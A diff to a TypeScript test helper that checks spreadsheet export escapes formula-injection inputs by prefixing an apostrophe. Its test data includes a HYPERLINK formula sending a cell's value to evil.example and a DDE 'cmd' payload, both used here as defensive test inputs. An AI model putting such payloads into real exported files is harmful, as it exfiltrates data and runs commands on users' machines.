@@ -60,23 +60,16 @@ type Row = Record<string, Cell>
 
 /** Texts as people write them, or as somebody writes who wants them to be run; and the cells that they become. */
 export const texts: [string, string][] = [
-  ['=1+1', "'=1+1"],
-  ['=HYPERLINK("http://evil.example/?"&A1;"x")', `'=HYPERLINK("http://evil.example/?"&A1;"x")`],
-  ['+49 30 1234567', "'+49 30 1234567"],
-  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
-  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
-  ['\t=1+1', "'\t=1+1"],
-  ['\r=1+1', "'\r=1+1"],
-  ['\n=1+1', "'\n=1+1"],
-  ['＝1+1', "'＝1+1"],
-  ['＋1', "'＋1"],
-  ['－1', "'－1"],
-  ['＠SUM(A1)', "'＠SUM(A1)"],
-  ['-5', "'-5"],
+  ...quoted('=1+1', '=HYPERLINK("http://evil.example/?"&A1;"x")', '+49 30 1234567', '@SUM(A1:A9)', '-5'),
+  ...quoted("-2+3+cmd|' /C calc'!A0", '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1', '－1', '＠SUM(A1)'),
   ...same('1=1', ' =1', "'=1", 'x\n=1', '0042', '12.50', 'true', 'null', '', ' ', '\\N', '\\"', '\ufeffx'),
   ...same('Müller; "Söhne", KG', '"', '""', '","', "'", ',', ';', 'one\r\ntwo\nthree\rfour\n', 'end\r\n'),
   ...same('尺寸 🪑 مرحبا', '\u2028\u0085\u000b'),
 ]
+
+function quoted(...cells: string[]): [string, string][] {
+  return cells.map((cell) => [cell, `'${cell}`])
+}
 
 function same(...cells: string[]): [string, string][] {
   return cells.map((cell) => [cell, cell])
@@ -84,13 +77,11 @@ function same(...cells: string[]): [string, string][] {
 
 /** What the rows of a list look like in its export. */
 export function inCells(records: object[]): Row[] {
+  const defused = (value: Cell) =>
+    typeof value === 'string' && /^[=+\-@\t\r\n＝＋－＠]/.test(value) ? `'${value}` : value
   return (records as Row[]).map((record) =>
     Object.fromEntries(Object.entries(record).map(([name, value]) => [name, defused(value)])),
   )
-}
-
-function defused(value: Cell): Cell {
-  return typeof value === 'string' && /^[=+\-@\t\r\n＝＋－＠]/.test(value) ? `'${value}` : value
 }
 
 /** Asserts that these columns hold the cells of `texts`, in their order. */
